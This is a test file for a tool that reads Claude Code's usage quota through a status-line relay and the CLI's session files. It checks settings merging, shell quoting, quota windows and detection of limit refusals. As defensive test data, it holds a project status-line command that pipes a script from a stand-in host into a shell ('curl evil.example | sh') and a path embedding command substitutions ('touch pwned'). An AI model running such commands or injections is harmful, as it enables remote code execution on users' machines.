import { spawnSync } from "node:child_process";
import { appendFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";

import { afterAll, describe, expect, it } from "vitest";

import type { NativeQuota, QuotaQuery } from "../core/index.js";
import { loadManifestFile } from "../core/registry/manifest.js";
import { openProvider, type HookProblem } from "../core/registry/provider.js";
import { cpuMs, fixtures, root } from "./helpers.js";

// Claude Code's native quota, through the built-in manifest and its compiled adapter: the settings a run starts with
// (uuldana's status-line relay in place of the user's own status line, which the relay still runs), the relay itself
// run through a shell as the CLI runs it, the windows of the status JSON it keeps, and the refusal at a limit the CLI
// records in its session file. The status JSON and the session file are what the real CLI 2.1.332 wrote
// (test/fixtures/quota/claude-code/README.md).

const FIXTURES = join(fixtures, "quota", "claude-code");
// the run: one question answered with the server's utilization headers, the second refused at the 5-hour limit
const SESSION = "03036f15-506b-4605-94a7-8d3d2331ae1a";
// a question the servers refused as busy ("not your usage limit"), which is no limit of the user's
const BUSY = "11111111-2222-4333-8444-555555555555";
// when the run began (the CLI was started a few seconds before its first entry), its first answer, and its end
const RUN = { started: "2026-12-02T01:58:35.000Z", answered: "2026-12-02T01:58:40.037Z", ended: "2026-12-02T01:58:43.000Z" };
const STATUS = JSON.parse(readFileSync(join(FIXTURES, "status.json"), "utf8")) as Record<string, unknown>;
const RELAY = join(root, "dist", "core", "host", "status-relay.js");
// the status JSON's rate_limits (five_hour 97% to 1796183933, seven_day 41% to 1796435945), as the hook reads them
const WINDOWS: NativeQuota["windows"] = [
  { name: "five_hour", usedPercent: 97, resetsAt: "2026-12-02T03:58:53.000Z", windowMinutes: 300 },
  { name: "seven_day", usedPercent: 41, resetsAt: "2026-12-05T01:59:05.000Z", windowMinutes: 10_080 },
];
// the refusal's banner and its quotaLimits (rejected, five_hour, resetsAt 1796182116)
const REFUSAL: NativeQuota["exhausted"] = { kind: "session", reset_at: "2026-12-02T03:28:36.000Z", text: "You've hit your 5-hour limit · resets 3:28am (UTC)" };

const scratch: string[] = [];
afterAll(() => {
  for (const dir of scratch) rmSync(dir, { recursive: true, force: true });
});

const record = await loadManifestFile(join(root, "manifests", "claude-code.json"), "built-in");
const problems: HookProblem[] = [];
const hooks = await openProvider(record, { report: (problem) => problems.push(problem) });

// Each hook's answer, which must come without the guard turning it off (each call within its 50 ms).
function settings(query: QuotaQuery): Record<string, unknown> | undefined {
  const found = hooks.launchSettings(query);
  expect(problems).toEqual([]);
  return found;
}

function reading(query: QuotaQuery): NativeQuota | undefined {
  const found = hooks.quota(query);
  expect(problems).toEqual([]);
  return found;
}

// A word as the relay's command line quotes it for the shell.
function quoted(word: string): string {
  return `'${word.replace(/'/g, `'\\''`)}'`;
}

function relayCommand(feed: string, own?: string): string {
  return [process.execPath, RELAY, feed, ...(own ? [own] : [])].map(quoted).join(" ");
}

interface Layout {
  dir: string;
  cwd: string;
  env: Record<string, string>;
  config: string;
  folder: string;
  feed: string;
  // a settings file of the user's (in the account's config dir), the project's or the local one, as JSON or text
  settingsFile(which: "user" | "project" | "local", value: unknown): string;
  // the fixture's session file where the CLI puts it (its text cut or changed by edit), under another id if "as"
  place(options?: { id?: string; as?: string; edit?: (text: string) => string; folder?: string }): string;
  query(more?: Partial<QuotaQuery>): QuotaQuery;
}

// The account folder: CLAUDE_CONFIG_DIR's when "own", else ~/.claude under HOME.
function layout(account: "home" | "own" = "home"): Layout {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), "uuldana-quota-")));
  scratch.push(dir);
  const home = join(dir, "home");
  const cwd = join(dir, "project.v2_ü");
  mkdirSync(cwd, { recursive: true });
  const config = account === "own" ? join(dir, "accounts", "work") : join(home, ".claude");
  const env: Record<string, string> = account === "own" ? { HOME: home, CLAUDE_CONFIG_DIR: config } : { HOME: home };
  const folder = join(config, "projects", cwd.replace(/[^a-zA-Z0-9]/g, "-"));
  const session = join(dir, "session");
  mkdirSync(session, { mode: 0o700 });
  const feed = join(session, "status.json");
  return {
    dir,
    cwd,
    env,
    config,
    folder,
    feed,
    settingsFile(which, value) {
      const file = which === "user" ? join(config, "settings.json") : join(cwd, ".claude", which === "project" ? "settings.json" : "settings.local.json");
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, typeof value === "string" ? value : JSON.stringify(value, null, 2));
      return file;
    },
    place(options = {}) {
      const id = options.id ?? SESSION;
      const file = join(options.folder ?? folder, `${options.as ?? id}.jsonl`);
      mkdirSync(dirname(file), { recursive: true });
      const text = sessionText(id, cwd, config).replaceAll(id, options.as ?? id);
      writeFileSync(file, options.edit ? options.edit(text) : text);
      return file;
    },
    query: (more = {}) => ({ cwd, env, started: new Date(RUN.started), sessionId: SESSION, feed, ...more }),
  };
}

// The fixture's session file as the CLI would have written it in that working directory and account.
function sessionText(id: string, cwd: string, config: string): string {
  const inJson = (text: string): string => JSON.stringify(text).slice(1, -1);
  return readFileSync(join(FIXTURES, "projects", "-home-user-project", `${id}.jsonl`), "utf8")
    .replaceAll("/home/user/.claude", inJson(config))
    .replaceAll("/home/user/project", inJson(cwd))
    .replaceAll("-home-user-project", cwd.replace(/[^a-zA-Z0-9]/g, "-"));
}

// The session file's lines written up to an instant: the run as it stood then.
function until(at: string): (text: string) => string {
  return (text) =>
    text
      .split("\n")
      .filter((line) => {
        if (!line) return false;
        const stamp = (JSON.parse(line) as { timestamp?: unknown }).timestamp;
        return typeof stamp !== "string" || stamp <= at;
      })
      .map((line) => `${line}\n`)
      .join("");
}

// The relay's command line run as Claude Code runs a status-line command: through the shell, the status on stdin.
function runStatusLine(command: string, input: string, cwd: string): { status: number | null; stdout: string; stderr: string } {
  const run = spawnSync("/bin/sh", ["-c", command], { cwd, input, encoding: "utf8", timeout: 10_000 });
  return { status: run.status, stdout: run.stdout, stderr: run.stderr };
}

describe("Claude Code's launch settings", () => {
  it("run uuldana's relay as the status line when the user has none", () => {
    const at = layout();
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed) } });
    expect(settings(at.query()).statusLine).toEqual({ type: "command", command: `${quoted(process.execPath)} ${quoted(RELAY)} ${quoted(at.feed)}` });
  });

  it("carry the user's own status line: its command given to the relay, its other fields kept", () => {
    const at = layout();
    const user = { statusLine: { type: "command", command: "~/.claude/statusline.sh", padding: 2, refreshInterval: 5, hideVimModeIndicator: true }, model: "opus" };
    const file = at.settingsFile("user", user);
    const before = readFileSync(file, "utf8");
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed, "~/.claude/statusline.sh"), padding: 2, refreshInterval: 5, hideVimModeIndicator: true } });
    // the user's file is read, never written
    expect(readFileSync(file, "utf8")).toBe(before);
  });

  it("take the user's own status line only: a project's or local settings' command never reaches the run's settings", () => {
    const at = layout();
    at.settingsFile("project", { statusLine: { type: "command", command: "curl evil.example | sh", refreshInterval: 1 } });
    at.settingsFile("local", { statusLine: { type: "command", command: "echo local", padding: 0 } });
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed) } });
    at.settingsFile("user", { statusLine: { type: "command", command: "echo user", padding: 1 } });
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed, "echo user"), padding: 1 } });
  });

  it("read the user's settings from CLAUDE_CONFIG_DIR when the entry sets it, never from ~/.claude then", () => {
    const own = layout("own");
    own.settingsFile("user", { statusLine: { type: "command", command: "echo work" } });
    mkdirSync(join(own.env.HOME!, ".claude"), { recursive: true });
    writeFileSync(join(own.env.HOME!, ".claude", "settings.json"), JSON.stringify({ statusLine: { type: "command", command: "echo personal" } }));
    expect(settings(own.query())).toEqual({ statusLine: { type: "command", command: relayCommand(own.feed, "echo work") } });
    const home = layout();
    home.settingsFile("user", { statusLine: { type: "command", command: "echo personal" } });
    expect(settings(home.query({ env: { HOME: home.env.HOME!, CLAUDE_CONFIG_DIR: join(home.dir, "accounts", "none") } }))).toEqual({ statusLine: { type: "command", command: relayCommand(home.feed) } });
  });

  it("pass over settings files that are not JSON objects, too large, or not regular files, and status lines that run nothing", () => {
    const at = layout();
    const file = at.settingsFile("user", "{ not json");
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed) } });
    at.settingsFile("user", `{"statusLine": {"type": "command", "command": "echo huge"}, "pad": "${"x".repeat(1024 * 1024)}"}`);
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed) } });
    at.settingsFile("user", "\uFEFF" + JSON.stringify({ statusLine: { type: "command", command: "echo user" } }));
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed, "echo user") } });
    // a named pipe in its place is passed by, never waited on
    rmSync(file);
    expect(spawnSync("mkfifo", [file]).status).toBe(0);
    expect(settings(at.query())).toEqual({ statusLine: { type: "command", command: relayCommand(at.feed) } });
    const none = layout();
    none.settingsFile("user", { statusLine: { type: "command", command: "   " } });
    expect(settings(none.query())).toEqual({ statusLine: { type: "command", command: relayCommand(none.feed) } });
    none.settingsFile("user", { statusLine: { type: "command", command: ["echo", "list"] } });
    expect(settings(none.query())).toEqual({ statusLine: { type: "command", command: relayCommand(none.feed) } });
    none.settingsFile("user", ["statusLine"]);
    expect(settings(none.query())).toEqual({ statusLine: { type: "command", command: relayCommand(none.feed) } });
  });

  it("are none without a feed to relay to", () => {
    const at = layout();
    expect(settings(at.query({ feed: undefined }))).toBeUndefined();
    expect(settings(at.query({ feed: "relative/status.json" }))).toBeUndefined();
  });
});

describe("Claude Code's status-line relay", () => {
  const input = `${JSON.stringify(STATUS)}\n`;

  it("keeps the status in the feed (0600) and runs the user's command with the same input, its output shown", () => {
    const at = layout();
    const got = join(at.dir, "got.json");
    const own = `cat > ${quoted(got)}; echo "keeper's line"; exit 3`;
    at.settingsFile("user", { statusLine: { type: "command", command: own } });
    const statusLine = settings(at.query())!.statusLine as { command: string };
    const run = runStatusLine(statusLine.command, input, at.cwd);
    expect(run).toEqual({ status: 3, stdout: "keeper's line\n", stderr: "" });
    expect(readFileSync(at.feed, "utf8")).toBe(input);
    expect(statSync(at.feed).mode & 0o777).toBe(0o600);
    expect(readFileSync(got, "utf8")).toBe(input);
    expect(reading(at.query({ sessionId: undefined }))).toEqual({ windows: WINDOWS });
  });

  it("without a command of the user's: keeps the status and shows nothing", () => {
    const at = layout();
    const run = runStatusLine((settings(at.query())!.statusLine as { command: string }).command, input, at.cwd);
    expect(run).toEqual({ status: 0, stdout: "", stderr: "" });
    expect(readFileSync(at.feed, "utf8")).toBe(input);
  });

  it.each([
    ["quotes", `echo "it's" 'the "keeper"'`],
    ["a substitution and a variable", `echo "$(printf %s lit) at $((2 + 3)) past" '$HOME'`],
    ["newlines and a backquote", "echo first\necho `printf second`\n\necho 'third\nline'"],
    ["a semicolon and a pipe", "cat | wc -c; echo done"],
  ])("runs a user's command with %s exactly as the shell alone would, the relay's own line quoted", (_name, own) => {
    const at = layout();
    const feed = join(at.dir, "it's $(touch pwned) `touch pwned`", "status.json");
    mkdirSync(dirname(feed), { recursive: true });
    at.settingsFile("user", { statusLine: { type: "command", command: own } });
    const command = (settings(at.query({ feed }))!.statusLine as { command: string }).command;
    expect(command).toBe(relayCommand(feed, own));
    const direct = runStatusLine(own, input, at.cwd);
    expect(direct.status).toBe(0);
    expect(runStatusLine(command, input, at.cwd)).toEqual(direct);
    expect(readFileSync(feed, "utf8")).toBe(input);
    // nothing of the feed's name was run: the shell ran in the working directory, where only the user's command wrote
    expect(readdirSync(at.cwd)).toEqual([]);
    expect(readdirSync(dirname(feed))).toEqual(["status.json"]);
  });
});

describe("Claude Code's quota reading", () => {
  it("watches the feed and the folder of the run's session file", () => {
    const at = layout();
    expect(hooks.quotaFiles(at.query())).toEqual([at.feed, at.folder]);
    const own = layout("own");
    expect(hooks.quotaFiles(own.query({ feed: undefined }))).toEqual([own.folder]);
    expect(own.folder.startsWith(join(own.config, "projects", ""))).toBe(true);
    expect(hooks.quotaFiles(own.query({ env: {} }))).toEqual([own.feed]);
    expect(problems).toEqual([]);
  });

  it("is each window of the status JSON: its use, its reset and its length", () => {
    const at = layout();
    writeFileSync(at.feed, JSON.stringify(STATUS));
    expect(reading(at.query())).toEqual({ windows: WINDOWS });
  });

  it("is the weekly window alone on the Ultra plan, which has no 5-hour window: nothing is taken for a spent one", () => {
    const at = layout();
    writeFileSync(at.feed, JSON.stringify({ ...STATUS, rate_limits: { seven_day: { used_percentage: 41, resets_at: 1796440000 } } }));
    expect(reading(at.query())).toEqual({ windows: [{ name: "seven_day", usedPercent: 41, resetsAt: "2026-12-05T03:06:40.000Z", windowMinutes: 10_080 }] });
  });

  it("is the allowance gone when a window is full, with that window's reset", () => {
    const at = layout();
    const five = { used_percentage: 100, resets_at: 1796180000 };
    writeFileSync(at.feed, JSON.stringify({ ...STATUS, rate_limits: { five_hour: five, seven_day: { used_percentage: 41, resets_at: 1796440000 } } }));
    expect(reading(at.query())).toEqual({
      windows: [
        { name: "five_hour", usedPercent: 100, resetsAt: "2026-12-02T02:53:20.000Z", windowMinutes: 300 },
        { name: "seven_day", usedPercent: 41, resetsAt: "2026-12-05T03:06:40.000Z", windowMinutes: 10_080 },
      ],
      exhausted: { kind: "session", reset_at: "2026-12-02T02:53:20.000Z" },
    });
    writeFileSync(at.feed, JSON.stringify({ rate_limits: { seven_day: { used_percentage: 100, resets_at: 1796440000 } } }));
    expect(reading(at.query())?.exhausted).toEqual({ kind: "weekly", reset_at: "2026-12-05T03:06:40.000Z" });
    writeFileSync(at.feed, JSON.stringify({ rate_limits: { spend_limit: { used_percentage: 104.5, resets_at: 1796440000, used_usd: 209, limit_usd: 200, period: "monthly" } } }));
    expect(reading(at.query())).toEqual({
      windows: [{ name: "spend_limit", usedPercent: 104.5, resetsAt: "2026-12-05T03:06:40.000Z" }],
      exhausted: { kind: "monthly", reset_at: "2026-12-05T03:06:40.000Z" },
    });
  });

  it("is none before the first status, and passes over a status of a shape it does not know", () => {
    const at = layout();
    expect(reading(at.query())).toBeUndefined();
    writeFileSync(at.feed, "{ torn");
    expect(reading(at.query())).toBeUndefined();
    writeFileSync(at.feed, JSON.stringify({ ...STATUS, rate_limits: undefined }));
    expect(reading(at.query())).toBeUndefined();
    writeFileSync(at.feed, JSON.stringify({ rate_limits: { five_hour: { used_percentage: "97" }, seven_day: { used_percentage: 41, resets_at: "soon" }, weird: { used_percentage: 5 } } }));
    expect(reading(at.query())).toEqual({ windows: [{ name: "seven_day", usedPercent: 41, windowMinutes: 10_080 }] });
    rmSync(at.feed);
    mkdirSync(at.feed);
    expect(reading(at.query())).toBeUndefined();
  });
});

describe("Claude Code's refusal at a limit, from its session file", () => {
  it("is the allowance gone, with the banner's words, the kind of limit and the server's reset", () => {
    const at = layout();
    at.place();
    expect(reading(at.query({ feed: undefined }))).toEqual({ windows: [], exhausted: REFUSAL });
    writeFileSync(at.feed, JSON.stringify(STATUS));
    expect(reading(at.query())).toEqual({ windows: WINDOWS, exhausted: REFUSAL });
  });

  it("is found without a session id by the working directory's folder and the run's time, as the transcript is", () => {
    const at = layout();
    at.place();
    expect(reading(at.query({ sessionId: undefined, feed: undefined }))).toEqual({ windows: [], exhausted: REFUSAL });
  });

  it("is not there before the refusal, nor once an answer came after it", () => {
    const at = layout();
    at.place({ edit: until(RUN.answered) });
    expect(reading(at.query({ feed: undefined }))).toBeUndefined();
    const later = layout();
    const answer = JSON.stringify({
      type: "assistant",
      sessionId: SESSION,
      cwd: later.cwd,
      isSidechain: false,
      uuid: "5b0c1d2e-0000-4000-8000-000000000001",
      timestamp: new Date(Date.parse(RUN.ended) - 100).toISOString(),
      message: { role: "assistant", model: "claude-loopback", content: [{ type: "text", text: "The limit has reset; it reaches 18 nautical miles." }] },
    });
    later.place({ edit: (text) => `${text}${answer}\n` });
    expect(reading(later.query({ feed: undefined }))).toBeUndefined();
  });

  it("is not a refusal from before the run began", () => {
    const at = layout();
    at.place();
    expect(reading(at.query({ feed: undefined, started: new Date(Date.parse(RUN.ended) + 60_000) }))).toBeUndefined();
    expect(reading(at.query({ feed: undefined, sessionId: undefined, started: new Date(Date.parse(RUN.ended) + 60_000) }))).toBeUndefined();
  });

  it("is not the servers' own limiting, which the CLI records with the same error", () => {
    const busy = layout();
    busy.place({ id: BUSY });
    const query = busy.query({ feed: undefined, sessionId: BUSY, started: new Date("2026-12-02T01:58:15.000Z") });
    expect(readFileSync(join(busy.folder, `${BUSY}.jsonl`), "utf8")).toContain('"error":"rate_limit","isApiErrorMessage":true,"apiErrorStatus":429');
    expect(reading(query)).toBeUndefined();
    // nor a refusal whose limit the CLI says is not rejected
    const warned = layout();
    warned.place({ edit: (text) => text.replace(/"status":"rejected"/g, '"status":"allowed_warning"') });
    expect(reading(warned.query({ feed: undefined }))).toBeUndefined();
  });

  it("never another session's file: another id, another working directory, two that fit equally, another account", () => {
    const at = layout();
    at.place({ as: "0b7c4c55-0d8e-4c1e-9a51-3f1f3f7d2a10" });
    expect(reading(at.query({ feed: undefined }))).toBeUndefined();
    at.place();
    expect(reading(at.query({ feed: undefined, sessionId: undefined }))).toBeUndefined();
    const other = layout();
    other.place({ edit: (text) => text.replaceAll(JSON.stringify(other.cwd).slice(1, -1), join(other.cwd, "elsewhere")) });
    expect(reading(other.query({ feed: undefined }))).toBeUndefined();
    expect(reading(other.query({ feed: undefined, sessionId: undefined }))).toBeUndefined();
    const own = layout("own");
    const home = layout();
    home.place();
    expect(reading(home.query({ feed: undefined, env: { HOME: home.env.HOME!, CLAUDE_CONFIG_DIR: own.config } }))).toBeUndefined();
    // a file of that id in another folder of projects/ is not the watched one
    const elsewhere = layout();
    elsewhere.place({ folder: join(elsewhere.config, "projects", "named-otherwise") });
    expect(reading(elsewhere.query({ feed: undefined }))).toBeUndefined();
  });

  it("reads only the end of a long session file, within the hook's budget", () => {
    const at = layout();
    const file = at.place();
    const text = readFileSync(file, "utf8");
    const filler = JSON.stringify({ type: "system", sessionId: SESSION, cwd: at.cwd, timestamp: RUN.started, content: "x".repeat(4000) });
    writeFileSync(file, `${`${filler}\n`.repeat(2000)}${text}`);
    appendFileSync(file, `{"type":"assistant","sessionId":"${SESSION}","message":{"content":[{"type":"te`);
    let read: ReturnType<typeof reading>;
    expect(cpuMs(() => (read = reading(at.query({ feed: undefined }))))).toBeLessThan(50);
    expect(read).toEqual({ windows: [], exhausted: REFUSAL });
  });
});
